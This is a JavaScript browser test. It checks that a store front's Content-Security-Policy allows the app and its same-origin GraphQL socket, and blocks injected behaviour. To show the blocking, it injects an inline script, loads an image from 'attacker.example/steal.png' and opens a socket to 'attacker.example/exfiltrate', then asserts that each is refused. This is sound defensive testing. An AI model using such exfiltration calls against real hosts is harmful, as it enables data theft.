// The server's Content-Security-Policy as Chromium enforces it (docs/security.md, "Browser
// headers"): the store front renders without a single violation, the subscription socket to the
// same origin opens (connect-src 'self' covers ws:), and what an injected script would try is
// refused: an inline script, a picture from a stranger's host, a socket to another origin.
import { after, before, test } from 'node:test';
import assert from 'node:assert/strict';
import { launchBrowser, openPage, VIEWPORTS } from '../lib/browser.js';
import { startServer } from '../lib/server.js';

let server;
let browser;

before(async () => {
  server = await startServer();
  browser = await launchBrowser();
});

after(async () => {
  await browser?.close();
  await server?.stop();
});

test('the store front runs under the CSP, which refuses what an injected script would try', async () => {
  const { page, context, problems } = await openPage(browser, VIEWPORTS.desktop);
  try {
    await page.addInitScript(() => {
      window.__violations = [];
      document.addEventListener('securitypolicyviolation', (e) =>
        window.__violations.push(`${e.effectiveDirective} ${e.blockedURI}`),
      );
    });
    const response = await page.goto(server.url, { waitUntil: 'networkidle' });
    assert.match(response.headers()['content-security-policy'], /frame-ancestors 'none'/);
    await page.locator('.category-tiles .category-tile-title').first().waitFor();
    assert.deepEqual(await page.evaluate(() => window.__violations), [], 'the app itself needs nothing the CSP refuses');
    assert.deepEqual(problems, [], 'no console errors while the app loads');

    // The subscriptions' socket: same origin, allowed.
    const socket = await page.evaluate(
      () =>
        new Promise((resolve) => {
          const ws = new WebSocket(`${location.origin.replace(/^http/, 'ws')}/graphql`, 'graphql-transport-ws');
          ws.onopen = () => {
            ws.close();
            resolve('open');
          };
          ws.onerror = () => resolve('error');
        }),
    );
    assert.equal(socket, 'open');

    await page.evaluate(() => {
      window.__violations = [];
      const script = document.createElement('script');
      script.textContent = 'window.__injected = true;';
      document.body.append(script);
      const img = new Image();
      img.src = 'https://attacker.example/steal.png';
      try {
        new WebSocket('ws://attacker.example/exfiltrate');
      } catch {
        // Chromium may refuse it by throwing as well as by reporting.
      }
    });
    // Violation events arrive as queued tasks: wait for the three reports.
    await page.waitForFunction(() => window.__violations.length >= 3);
    const refused = await page.evaluate(() => ({ injected: window.__injected === true, violations: window.__violations }));
    assert.equal(refused.injected, false, 'an inline script does not run');
    const directives = refused.violations.map((v) => v.split(' ')[0]);
    for (const directive of ['script-src-elem', 'img-src', 'connect-src']) {
      assert.ok(directives.includes(directive), `${directive} refused: ${JSON.stringify(refused.violations)}`);
    }
  } finally {
    await context.close();
  }
});
